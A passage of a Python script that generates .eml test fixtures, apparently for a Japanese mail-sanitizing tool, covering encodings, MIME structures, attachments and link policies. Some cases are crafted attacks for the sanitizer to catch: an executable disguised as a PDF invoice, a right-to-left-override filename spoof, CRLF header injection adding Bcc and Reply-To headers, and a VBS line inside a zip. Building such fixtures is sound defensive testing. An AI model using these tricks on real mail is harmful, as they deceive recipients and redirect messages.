                 ['Content-Disposition: attachment; filename="秋祭り_集合写真.jpg"']),
        ]),
        ['Content-Type: multipart/mixed; boundary="Apple-Mail=_019"']))

    # --- 020-025: HTML and alternatives -----------------------------------------------------
    case("020-html-newsletter", message(
        headers(ew("自治体DXニュース 第42号", "UTF-8"),
                frm=addr("自治体DXニュース編集部", "news@news.example.com"), n=20,
                extra=["List-Unsubscribe: <https://news.example.com/unsubscribe?u=8812>",
                       "X-Mailer: MailMagazine Pro v3"]),
        b64lines(HTML_NEWSLETTER.encode("utf-8")),
        ["Content-Type: text/html; charset=UTF-8", "Content-Transfer-Encoding: base64"]))

    alt_plain = GREETING + "来週の打ち合わせの件です。\n添付の地図をご確認ください。\n" + SIGNATURE
    alt_html = ("<html><body><p>株式会社パートナー商事の田中でございます。<br>いつも大変お世話になっております。</p>"
                "<p><b>来週の打ち合わせ</b>の件です。<br>添付の地図をご確認ください。</p></body></html>\n")
    case("021-alternative-plain-html", message(
        headers(ew("打ち合わせの件"), n=21),
        multipart("000000000000a1b2c3d4e5f60021", [
            part("text/plain; charset=ISO-2022-JP", iso2022jp(alt_plain), "7bit"),
            part("text/html; charset=ISO-2022-JP", iso2022jp(alt_html), "7bit"),
        ]),
        ['Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60021"']))

    case("022-alternative-empty-plain", message(
        headers(ew("【ご案内】年末年始の窓口業務", "UTF-8"), n=22),
        multipart("b1_022", [
            part("text/plain; charset=UTF-8", "\n \n", "7bit"),
            part("text/html; charset=UTF-8", qp(
                "<html><body><h2>年末年始の窓口業務について</h2><p>12月29日から1月3日まで、"
                "本庁舎の窓口業務を休止します。</p><p>戸籍の届出は<em>夜間休日受付</em>で受け付けます。</p>"
                "</body></html>\n".encode("utf-8")), "quoted-printable"),
        ]),
        ['Content-Type: multipart/alternative; boundary="b1_022"']))

    case("023-related-cid-image", message(
        headers(ew("イベントチラシ", "UTF-8"), n=23),
        multipart("rel_023", [
            part("text/html; charset=UTF-8",
                 "<html><body><p>市民まつりのチラシです。</p><img src=\"cid:flyer.001@example.com\" alt=\"市民まつりチラシ\">"
                 "<p>会場：中央公園</p></body></html>\n", "8bit"),
            part('image/png; name="flyer.png"', b64lines(make_png()), "base64",
                 ["Content-ID: <flyer.001@example.com>", 'Content-Disposition: inline; filename="flyer.png"']),
        ]),
        ['Content-Type: multipart/related; type="text/html"; boundary="rel_023"']))

    case("024-alternative-nested-mixed", message(
        headers(ew("Re: 資料の件", "UTF-8"), n=24,
                extra=["X-Mailer: Apple Mail (2.3774.200.91.1.1)"]),
        multipart("Apple-Mail=_ALT024", [
            part("text/plain; charset=utf-8",
                 "資料を添付します。\n\n[添付: 報告書.pdf]\n\n引き続きよろしくお願いします。\n", "8bit"),
            part('multipart/mixed; boundary="Apple-Mail=_MIX024"', multipart("Apple-Mail=_MIX024", [
                part("text/html; charset=utf-8", "<html><body><div>資料を添付します。</div><div><br></div></body></html>\n", "8bit"),
                attachment("application/pdf", "report.pdf", make_pdf("Report")),
                part("text/html; charset=utf-8", "<html><body><div>引き続きよろしくお願いします。</div></body></html>\n", "8bit"),
            ])),
        ]),
        ['Content-Type: multipart/alternative; boundary="Apple-Mail=_ALT024"']))

    case("025-html-meta-charset-sjis", message(
        headers(ew("ホームページ更新のお知らせ"), n=25),
        ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=Shift_JIS\">"
         "</head><body><p>市のホームページを更新しました。</p><p>新着情報：<a href=\"https://www.city.example.lg.jp/news/\">"
         "お知らせ一覧</a></p></body></html>\n").encode("cp932"),
        ["Content-Type: text/html", "Content-Transfer-Encoding: 8bit"]))

    # --- 026-032: attachments ---------------------------------------------------------------
    case("026-attachments-office-pdf-zip", message(
        headers(ew("【資料送付】委員会資料一式"), n=26),
        multipart("----=_NextPart_000_0026_01DC5A.12345678", [
            part('multipart/alternative; boundary="----=_NextPart_001_0027_01DC5A.12345678"',
                 multipart("----=_NextPart_001_0027_01DC5A.12345678", [
                     part("text/plain; charset=iso-2022-jp", iso2022jp(GREETING + "委員会資料一式を添付いたします。\n" + SIGNATURE), "7bit"),
                     part("text/html; charset=iso-2022-jp", iso2022jp("<html><body><p>委員会資料一式を添付いたします。</p></body></html>\n"), "7bit"),
                 ])),
            attachment("application/pdf", "agenda.pdf", make_pdf("Agenda", javascript=True)),
            attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                       "minutes.docx", make_docx("議事録")),
            attachment("application/vnd.ms-excel.sheet.macroEnabled.12", "budget.xlsm",
                       make_xlsm("予算")),
            attachment("application/zip", "photos.zip",
                       make_zip([("readme.txt", b"photos of the site visit\r\n"),
                                 ("site1.png", make_png())])),
        ]),
        ['Content-Type: multipart/mixed;\n\tboundary="----=_NextPart_000_0026_01DC5A.12345678"',
         "X-Mailer: Microsoft Outlook 16.0"]))

    case("027-exe-disguised-as-pdf", message(
        headers(ew("請求書のご確認をお願いします"),
                frm=addr("経理部", "keiri@invoice-example.net"), n=27),
        multipart("exe027", [
            part("text/plain; charset=ISO-2022-JP", iso2022jp("添付の請求書をご確認ください。\n"), "7bit"),
            attachment("application/pdf", "invoice_2025-11.pdf", make_exe()),
        ]),
        ['Content-Type: multipart/mixed; boundary="exe027"']))

    case("028-jpeg-declared-text-plain", message(
        headers(ew("現場写真", "UTF-8"), n=28),
        multipart("jpg028", [
            part("text/plain; charset=UTF-8", "現場の写真を送ります。\n", "8bit"),
            part('text/plain; name="genba.jpg"', b64lines(make_jpeg()), "base64",
                 ['Content-Disposition: inline; filename="genba.jpg"']),
        ]),
        ['Content-Type: multipart/mixed; boundary="jpg028"']))

    case("029-ppap-encrypted-zip", message(
        headers(ew("【パスワード付きファイル】契約書"), n=29),
        multipart("ppap029", [
            part("text/plain; charset=ISO-2022-JP", iso2022jp(GREETING + "契約書をパスワード付きZIPで送付します。\nパスワードは別メールでお送りします。\n" + SIGNATURE), "7bit"),
            attachment("application/x-zip-compressed", "keiyakusho.zip",
                       make_zip([("keiyakusho.docx", make_docx("契約書"))], encrypted=True)),
        ]),
        ['Content-Type: multipart/mixed; boundary="ppap029"']))

    case("030-images-png-jpeg", message(
        headers(ew("ロゴ画像", "UTF-8"), n=30),
        multipart("img030", [
            part("text/plain; charset=UTF-8", "新しいロゴ画像を2種類お送りします。\n", "8bit"),
            attachment("image/png", "logo.png", make_png(8, 8)),
            attachment("image/jpeg", "logo.jpg", make_jpeg()),
        ]),
        ['Content-Type: multipart/mixed; boundary="img030"']))

    case("031-tnef-winmail", message(
        headers(ew("日程調整の件"), n=31),
        multipart("tnef031", [
            part("text/plain; charset=ISO-2022-JP", iso2022jp("日程調整の件、添付をご確認ください。\n"), "7bit"),
            attachment("application/ms-tnef", "winmail.dat",
                       b"\x78\x9f\x3e\x22\x01\x00\x01\x06\x90\x08\x00\x04\x00\x00\x00\x00\x00\x01\x00\x01\x00" + bytes(range(200))),
        ]),
        ['Content-Type: multipart/mixed; boundary="tnef031"']))

    case("032-calendar-invite", message(
        headers(ew("会議招集：予算ヒアリング", "UTF-8"), n=32),
        multipart("cal032", [
            part("text/plain; charset=UTF-8", "予算ヒアリングを下記日程で開催します。\n日時：12月2日 13:30-15:00\n", "8bit"),
            part('text/calendar; charset=UTF-8; method=REQUEST; name="invite.ics"',
                 "BEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\nDTSTART:20251202T043000Z\n"
                 "DTEND:20251202T060000Z\nSUMMARY:予算ヒアリング\nLOCATION:第1会議室\nEND:VEVENT\nEND:VCALENDAR\n",
                 "8bit", ['Content-Disposition: attachment; filename="invite.ics"']),
        ]),
        ['Content-Type: multipart/mixed; boundary="cal032"']))

    # --- 033: forwarded message -------------------------------------------------------------
    inner = message(
        ["From: %s" % addr("県庁 情報政策課", "jouhou@pref.example.lg.jp"),
         "To: %s" % addr("市町村担当者各位", "tantou@pref.example.lg.jp"),
         "Subject: %s" % ew("【照会】情報セキュリティ監査の実施について"),
         "Date: Mon, 17 Nov 2025 16:20:00 +0900",
         "Message-ID: <inner.033@pref.example.lg.jp>"],
        multipart("inner033", [
            part("text/plain; charset=ISO-2022-JP", iso2022jp("市町村担当者各位\n\n情報セキュリティ監査を実施します。\n別添の調査票にご回答ください。\n\n県庁 情報政策課\n"), "7bit"),
            attachment("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                       "chousahyou.xlsx", make_zip([("[Content_Types].xml", CT_XML % "")])),
        ]),
        ['Content-Type: multipart/mixed; boundary="inner033"'])
    case("033-forwarded-rfc822", message(
        headers(ew("Fw: 【照会】情報セキュリティ監査の実施について"), n=33),
        multipart("fwd033", [
            part("text/plain; charset=ISO-2022-JP", iso2022jp("山田さん\n\n県からの照会を転送します。対応をお願いします。\n\n市民課 佐藤\n"), "7bit"),
            part("message/rfc822", inner, None,
                 ['Content-Disposition: attachment; filename="forwarded.eml"']),
        ]),
        ['Content-Type: multipart/mixed; boundary="fwd033"']))

    # --- 034-038: signed and encrypted ------------------------------------------------------
    case("034-smime-signed", message(
        headers(ew("電子署名付きメール"), n=34),
        multipart("----smime034", [
            part("text/plain; charset=ISO-2022-JP", iso2022jp(GREETING + "このメールにはS/MIME電子署名が付いています。\n" + SIGNATURE), "7bit"),
            part('application/pkcs7-signature; name="smime.p7s"', b64lines(fake_der(34, 600)), "base64",
                 ['Content-Disposition: attachment; filename="smime.p7s"',
                  "Content-Description: S/MIME Cryptographic Signature"]),
        ]),
        ['Content-Type: multipart/signed; protocol="application/pkcs7-signature";\n'
         ' micalg=sha-256; boundary="----smime034"']))

    case("035-pgp-signed", message(
        headers("Re: Security advisory follow-up", frm="Alice Example <alice@example.org>", n=35),
        multipart("pgp035", [
            part("text/plain; charset=UTF-8", "Hello,\n\nthe patched version is 2.4.1; please upgrade.\nよろしくお願いします。\n\nAlice\n", "quoted-printable"),
            part('application/pgp-signature; name="signature.asc"', armored("SIGNATURE", 35, 3), None,
                 ['Content-Disposition: attachment; filename="signature.asc"',
                  "Content-Description: OpenPGP digital signature"]),
        ]),
        ['Content-Type: multipart/signed; micalg=pgp-sha256;\n protocol="application/pgp-signature"; boundary="pgp035"']))

    case("036-smime-encrypted", message(
        headers(ew("暗号化メール"), n=36),
        b64lines(fake_der(36, 900)),
        ['Content-Type: application/pkcs7-mime; smime-type=enveloped-data;\n name="smime.p7m"',
         "Content-Transfer-Encoding: base64",
         'Content-Disposition: attachment; filename="smime.p7m"']))

    case("037-pgp-encrypted", message(
        headers("Encrypted: confidential report", frm="Alice Example <alice@example.org>", n=37),
        multipart("pgpenc037", [
            part("application/pgp-encrypted", "Version: 1\n", None,
                 ["Content-Description: PGP/MIME version identification"]),
            part('application/octet-stream; name="encrypted.asc"', armored("MESSAGE", 37), None,
                 ["Content-Description: OpenPGP encrypted message",
                  'Content-Disposition: inline; filename="encrypted.asc"']),
        ], preamble=b"This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n"),
        ['Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";\n boundary="pgpenc037"']))

    case("038-inline-pgp", message(
        headers(ew("鍵の件", "UTF-8"), frm="Bob <bob@example.net>", n=38),
        "お疲れ様です。暗号化した本文を下に貼ります。\n\n" + armored("MESSAGE", 38, 6)
        + "\n以下はクリア署名付きの文です。\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n"
        "署名された本文：明日の会議は10時からです。\n" + armored("SIGNATURE", 381, 2) + "\nBob\n",
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]))

    # --- 039-043: dangerous things inside text ----------------------------------------------
    uu = "begin 644 setup.exe\n"
    data = make_exe()
    for i in range(0, len(data), 45):
        uu += binascii.b2a_uu(data[i:i + 45]).decode("ascii")
    uu += "`\nend\n"
    case("039-uuencode-in-text", message(
        headers("Re: tool", frm="old-unix-user <user@example.ac.jp>", n=39),
        "修正版のツールを uuencode で貼り付けます。\n\n" + uu + "\nよろしく。\n",
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]))

    alphabet = "!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
    rnd = random.Random(40)
    hqx = "(This file must be converted with BinHex 4.0)\n:" + "\n".join(
        "".join(rnd.choice(alphabet) for _ in range(64)) for _ in range(6)) + "\n" + "".join(
        rnd.choice(alphabet) for _ in range(23)) + ":\n"
    case("040-binhex-in-text", message(
        headers("Mac file", frm="Mac User <mac@example.com>", n=40),
        "Macで作ったファイルをBinHexで送ります。\n\n" + hqx + "\n以上です。\n",
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]))

    blob = b64lines(make_zip([("macro.vbs", b'CreateObject("WScript.Shell").Run "calc"\r\n')] * 1
                             + [("data%02d.bin" % i, bytes(range(256))) for i in range(3)]))
    case("041-base64-blob-in-text", message(
        headers(ew("ログの送付", "UTF-8"), n=41),
        "エラーログを base64 で貼り付けます。解析をお願いします。\n\n" + blob + "\n以上、よろしくお願いします。\n",
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]))

    ctrl = ("制御文字のテスト\x00です。\n"
            "ベル\x07、バックスペース\x08、エスケープ\x1b[31m赤字\x1b[0m、改ページ\x0c、DEL\x7f。\n"
            "タブ\tは残ります。\n"
            "C1制御文字\u0085\u009bも除去対象。\n"
            "本文はここまでです。\n")
    case("042-control-chars-nul", message(
        headers(ew("制御文字を含むメール", "UTF-8"), n=42),
        ctrl,
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]))

    rlo = "\u202e"
    case("043-bidi-override", message(
        headers(ew("請求書" + rlo + "fdp.exe", "UTF-8"), n=43),
        multipart("bidi043", [
            part("text/plain; charset=UTF-8", qp(("請求書を添付しました：請求書" + rlo + "fdp.exe\n"
                                                  "隔離文字\u2066テスト\u2069、埋め込み\u202bテスト\u202c。\n").encode("utf-8")),
                 "quoted-printable"),
            part('application/octet-stream; name*=UTF-8\'\'%E8%AB%8B%E6%B1%82%E6%9B%B8%E2%80%AEfdp.exe',
                 b64lines(make_exe()), "base64",
                 ["Content-Disposition: attachment; filename*=UTF-8''%E8%AB%8B%E6%B1%82%E6%9B%B8%E2%80%AEfdp.exe"]),
        ]),
        ['Content-Type: multipart/mixed; boundary="bidi043"']))

    # --- 044-055: structure -----------------------------------------------------------------
    inj = base64.b64encode("お知らせ\r\nBcc: victim@example.com\r\nX-Injected: yes".encode("utf-8")).decode("ascii")
    inj2 = base64.b64encode("広報課\r\nReply-To: attacker@evil.example".encode("utf-8")).decode("ascii")
    case("044-subject-crlf-injection", message(
        headers("=?UTF-8?B?%s?=" % inj, frm="=?UTF-8?B?%s?= <koho@example.com>" % inj2, n=44),
        "件名と差出人名のエンコード語に CR LF が埋め込まれています。ヘッダが増えてはいけません。\n",
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]))

    case("045-missing-final-boundary", message(
        headers(ew("終端境界のないメール"), n=45),
        multipart("nofinal045", [
            part("text/plain; charset=ISO-2022-JP", iso2022jp("このメールには最後の境界行がありません。\n"), "7bit"),
            attachment("application/pdf", "shiryou.pdf", make_pdf("No final boundary")),
        ], final=False),
        ['Content-Type: multipart/mixed; boundary="nofinal045"']))

    case("046-boundary-prefix", message(
        headers(ew("境界文字列の前方一致", "UTF-8"), n=46),
        multipart("=_abc", [
            part('multipart/alternative; boundary="=_abc_1"', multipart("=_abc_1", [
                part("text/plain; charset=UTF-8", "外側の境界「=_abc」は内側の境界「=_abc_1」の前方一致です。\n", "8bit"),
                part("text/html; charset=UTF-8", "<p>外側の境界「=_abc」は内側の境界「=_abc_1」の前方一致です。</p>\n", "8bit"),
            ])),
            part('multipart/mixed; boundary="=_abc_1_2"', multipart("=_abc_1_2", [
                attachment("application/x-msdownload", "tool.exe", make_exe()),
            ])),
            part("text/plain; charset=UTF-8", "最後のテキストパート。\n", "8bit"),
        ]),
        ['Content-Type: multipart/mixed; boundary="=_abc"']))

    case("047-duplicate-content-type", message(
        headers(ew("Content-Typeが二つ", "UTF-8"), n=47),
        multipart("dup047", [
            part("text/plain; charset=UTF-8", "Content-Typeヘッダが2つあるメールです。\n", "8bit"),
            attachment("application/octet-stream", "payload.exe", make_exe()),
        ]),
        ["Content-Type: text/plain; charset=UTF-8",
         'Content-Type: multipart/mixed; boundary="dup047"']))

    case("048-encoding-on-multipart", message(
        headers(ew("マルチパートに転送エンコーディング", "UTF-8"), n=48),
        multipart("cte048", [
            part("text/plain; charset=UTF-8", "マルチパートにContent-Transfer-Encoding: quoted-printableが付いています。=3D記号もあります。\n", "8bit"),
            attachment("application/pdf", "doc.pdf", make_pdf("CTE on multipart")),
        ]),
        ['Content-Type: multipart/mixed; boundary="cte048"',
         "Content-Transfer-Encoding: quoted-printable"]))

    lf = message(headers(ew("改行がLFのみ"), n=49),
                 iso2022jp(GREETING + "このメールの改行はLFのみです（UNIXのファイルから直接読み込み）。\n" + SIGNATURE),
                 ["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"])
    case("049-lf-only", lf.replace(b"\r\n", b"\n"))

    cr = message(headers(ew("改行がCRのみ", "UTF-8"), n=50),
                 GREETING + "このメールの改行はCRのみです（古いMacの形式）。\n" + SIGNATURE,
                 ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"])
    case("050-cr-only", cr.replace(b"\r\n", b"\r"))

    longja = "長い行のテスト。" + "".join("この文は改行なしで続きます（%d）。" % i for i in range(120))
    longascii = "x" * 600 + " " + "https://example.com/" + "a" * 1500
    case("051-long-lines", message(
        headers(ew("非常に長い行", "UTF-8"), n=51),
        longja + "\n" + longascii + "\n" + "短い行。\n",
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]))

    fold = [
        "Return-Path: <info@partner.example.co.jp>",
        "From:\n " + ew("株式会社パートナー商事") + "\n\t<info@partner.example.co.jp>",
        "TO: yamada@city.example.lg.jp,\n\n   sato@city.example.lg.jp",
        "subject:" + ew("ヘッダの折り返しが") + "\n\t\t" + ew("変なメール") + "\n    (test)",
        "Date:\n Tue, 18 Nov 2025\n 10:15:00 +0900",
        "Message-ID:\n <fold.052@partner.example.co.jp>",
        "X-Long-Header: " + " ".join("word%d" % i for i in range(200)),
        "content-type: text/plain;\n\tcharset=\"iso-2022-jp\"",
        "CONTENT-TRANSFER-ENCODING: 7bit",
    ]
    case("052-header-folding", crlf("\n".join(fold[:4]).encode("ascii").replace(b"\n\n", b"\n \n")
                                      + b"\n" + "\n".join(fold[4:]).encode("ascii")
                                      + b"\nMIME-Version: 1.0\n\n" + iso2022jp("折り返しの多いヘッダです。\n")))

    case("053-no-subject-date-msgid", crlf(
        ("From: %s\nTo: yamada@city.example.lg.jp\nMIME-Version: 1.0\n"
         "Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n"
         % addr("自動送信システム", "noreply@system.example.jp")).encode("ascii")
        + "件名、日付、Message-IDのないメールです（監視システムからの自動送信）。\nディスク使用率：82%\n".encode("utf-8")))

    names = ["山田 太郎", "佐藤 花子", "鈴木 一郎", "高橋 美咲", "田中 健太", "伊藤 さくら",
             "渡辺 翔", "山本 陽子", "中村 大輔", "小林 由美", "加藤 誠", "吉田 愛"]
    to = ",\n ".join(addr(nm, "user%02d@city.example.lg.jp" % i) for i, nm in enumerate(names[:8]))
    cc = ",\n ".join(
        ['"%s" <%s>' % (ew(names[8], "UTF-8"), "user08@city.example.lg.jp"),
         "user09@city.example.lg.jp (%s)" % ew(names[9]),
         "%s <user10@city.example.lg.jp>" % ew(names[10], "Shift_JIS"),
         '"Kato, Makoto (加藤)" <user11@city.example.lg.jp>'.replace("加藤", ew("加藤")),
         "user12@city.example.lg.jp",
         "%s: %s, %s;" % (ew("防災チーム"), addr(names[11], "user13@city.example.lg.jp"), "user14@city.example.lg.jp")])
    case("054-many-recipients-ja", message(
        headers(ew("【全員】防災訓練の実施について"), to=to, n=54,
                extra=["Cc: " + cc, "Reply-To: " + addr("防災課", "bousai@city.example.lg.jp"),
                       "In-Reply-To: <prev.053@city.example.lg.jp>",
                       "References: <first.001@city.example.lg.jp>\n <prev.053@city.example.lg.jp>"]),
        iso2022jp("各位\n\n12月8日に防災訓練を実施します。\n全員参加でお願いします。\n\n防災課\n"),
        ["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"]))

    # --- 055-060: link policies -------------------------------------------------------------
    for n, policy in ((55, "keep"), (56, "show"), (57, "defang"), (58, "remove")):
        case("%03d-links-%s" % (n, policy), message(
            headers(ew("研修資料のご案内（リンク方針：%s）" % policy, "UTF-8"), n=n),
            qp(LINKS_HTML.encode("utf-8")),
            ["Content-Type: text/html; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable"]),
            '[sanitize]\nlinks = "%s"\n' % policy)
    case("059-links-text-defang", message(
        headers(ew("研修資料のご案内（テキスト）", "UTF-8"), n=59),
        LINKS_TEXT,
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]),
        '[sanitize]\nlinks = "defang"\n')
    case("060-links-text-remove", message(
        headers(ew("研修資料のご案内（テキスト）", "UTF-8"), n=60),
        LINKS_TEXT,
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]),
        '[sanitize]\nlinks = "remove"\n')

    # --- 061-066: output options ------------------------------------------------------------
    case("061-output-iso2022jp", message(
        headers(ew("見積書送付の件（UTF-8入力）", "UTF-8"), n=61),
        BODY_JA + "半角カナ：ｱｲｳｴｵ ｶﾞｷﾞ ﾊﾟﾋﾟ\n",
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]),
        '[sanitize]\noutput_charset = "iso-2022-jp"\n')
    case("062-output-iso2022jp-emoji-fallback", message(
        headers(ew("懇親会のお知らせ🍻", "UTF-8"), n=62),
        GREETING + "忘年会を開催します🎉\n会場：駅前の居酒屋🍺\n参加可否をお知らせください🙏\n" + SIGNATURE,
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]),
        '[sanitize]\noutput_charset = "iso-2022-jp"\n')
    case("063-output-iso2022jp-cp50220-fallback", message(
        headers(ew("①㈱ 髙島屋の件"), n=63),
        iso2022jp("① 会場：髙島屋ビル\n② 主催：㈱パートナー商事\n"),
        ["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"]),
        '[sanitize]\noutput_charset = "iso-2022-jp"\n')
    case("064-notice-en", message(
        headers("Quarterly report and slides", frm="John Smith <john.smith@example.com>", n=64),
        multipart("en064", [
            part('multipart/alternative; boundary="en064alt"', multipart("en064alt", [
                part("text/plain; charset=UTF-8", "Hi,\n\nplease find the quarterly report attached.\n\nBest,\nJohn\n", "7bit"),
                part("text/html; charset=UTF-8", "<p>Hi,</p><p>please find the <b>quarterly report</b> attached.</p><p>Best,<br>John</p>\n", "7bit"),
            ])),
            attachment("application/pdf", "Q3-report.pdf", make_pdf("Q3 report", javascript=True)),
            attachment("application/vnd.openxmlformats-officedocument.presentationml.presentation",
                       "slides.pptx", make_zip([("[Content_Types].xml", CT_XML % "")])),
        ]),
        ['Content-Type: multipart/mixed; boundary="en064"']),
        '[sanitize]\nnotice_language = "en"\n')
    case("065-subject-tag", message(
        headers(ew("【ご連絡】見積書送付の件"), n=65),
        iso2022jp(BODY_JA),
        ["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"]),
        '[sanitize]\nsubject_tag = "[外部]"\n')
    case("066-subject-tag-iso2022jp-html", message(
        headers(ew("自治体DXニュース 第42号", "UTF-8"), n=66),
        b64lines(HTML_NEWSLETTER.encode("utf-8")),
        ["Content-Type: text/html; charset=UTF-8", "Content-Transfer-Encoding: base64"]),
        '[sanitize]\noutput_charset = "iso-2022-jp"\nsubject_tag = "【外部メール】"\n'
        'notice_language = "ja"\nlinks = "defang"\n')

    # --- 067-072: more real-world oddities --------------------------------------------------
    case("067-latin1-german", message(
        headers("=?ISO-8859-1?Q?Anfrage_zur_St=E4dtepartnerschaft?=",
                frm="=?ISO-8859-1?Q?J=F6rg_Schr=F6der?= <schroeder@stadt.example.de>", n=67),
        "Sehr geehrte Damen und Herren,\n\nwir freuen uns über Ihre Einladung zur Städtepartnerschaft.\n"
        "Mit freundlichen Grüßen\nJörg Schröder\n".encode("iso-8859-1"),
        ["Content-Type: text/plain; charset=ISO-8859-1", "Content-Transfer-Encoding: 8bit"]))

    broken = iso2022jp("途中でエスケープが") + b"\x1b$B" + iso2022jp("切れた").replace(b"\x1b(B", b"").replace(b"\x1b$B", b"") + b"\n" \
        + iso2022jp("次の行は正常です。\n")
    case("068-iso2022jp-unterminated-line", message(
        headers(ew("JISの戻しがない行"), n=68),
        broken,
        ["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"]))

    case("069-eucjp-jisx0212", message(
        headers(ew("補助漢字を含むEUC-JP", "EUC-JP"), n=69),
        "補助漢字（JIS X 0212）：鄧 丂 乚 を含みます。\n普通の漢字：東京都\n".encode("euc_jp"),
        ["Content-Type: text/plain; charset=euc-jp", "Content-Transfer-Encoding: 8bit"]))

    case("070-empty-body", crlf(("\n".join(headers(ew("（本文なし）"), n=70))
                                 + "\nMIME-Version: 1.0\nContent-Type: text/plain; charset=ISO-2022-JP\n\n").encode("ascii")))

    case("071-html-sjis-qp-outlook", message(
        headers(ew("定例会議の資料", "Shift_JIS"), n=71, extra=["X-Mailer: Microsoft Outlook 16.0"]),
        multipart("----=_NextPart_000_0071_01DC58D3.5F1E2A30", [
            part("text/plain; charset=\"shift_jis\"", qp(("定例会議の資料を共有します。\n①議題一覧\n②前回議事録\n").encode("cp932")), "quoted-printable"),
            part("text/html; charset=\"shift_jis\"", qp((
                "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head><meta http-equiv=Content-Type content=\"text/html; charset=shift_jis\">"
                "<style><!-- p.MsoNormal {margin:0mm; font-size:10.5pt;} --></style></head>"
                "<body lang=JA><div class=WordSection1><p class=MsoNormal>定例会議の資料を共有します。<o:p></o:p></p>"
                "<p class=MsoNormal>①議題一覧<o:p></o:p></p><p class=MsoNormal>②前回議事録<o:p></o:p></p></div></body></html>\n").encode("cp932")),
                "quoted-printable"),
        ], preamble=b"This is a multipart message in MIME format.\n"),
        ['Content-Type: multipart/alternative;\n\tboundary="----=_NextPart_000_0071_01DC58D3.5F1E2A30"']))

    case("072-base64-body-no-mime-version", crlf(
        ("\n".join(headers(ew("MIME-Versionなし", "UTF-8"), n=72))
         + "\nContent-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: base64\n\n").encode("ascii")
        + b64lines("MIME-Versionヘッダがありませんが、本文はbase64です。\n".encode("utf-8")).encode("ascii")))

    # --- 073-: found by the golden review -------------------------------------------------
    # ISO-2022-JP-2 text from an old Unix mailer: a JIS X 0212 run (ESC $ ( D), which is
    # decoded, and a GB 2312 run (ESC $ A), which is not: the rest of the text survives and
    # the damage is reported (never a silent "clean").
    case("073-iso2022jp2-jisx0212-gb2312", message(
        headers(ew("補助漢字と中国語を含むJIS"), n=73),
        iso2022jp("補助漢字：") + b"\x1b$(D\x30\x21\x1b(B" + iso2022jp("、中国語：")
        + b"\x1b$A" + bytes(b & 0x7F for b in "汉语".encode("gb2312"))
        + b"\x1b(B" + iso2022jp("。\n次の行は正常です。\n"),
        ["Content-Type: text/plain; charset=ISO-2022-JP-2", "Content-Transfer-Encoding: 7bit"]))


def main():
    outdir = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
    build()
    names = set()
    for name, data, toml in CASES:
        assert name not in names, name
        names.add(name)
        with open(os.path.join(outdir, name + ".eml"), "wb") as f:
            f.write(data)
        tpath = os.path.join(outdir, name + ".toml")
        if toml is not None:
            with open(tpath, "w", encoding="utf-8") as f:
                f.write(toml)
    print("%d cases written to %s" % (len(CASES), outdir))


if __name__ == "__main__":
    main()
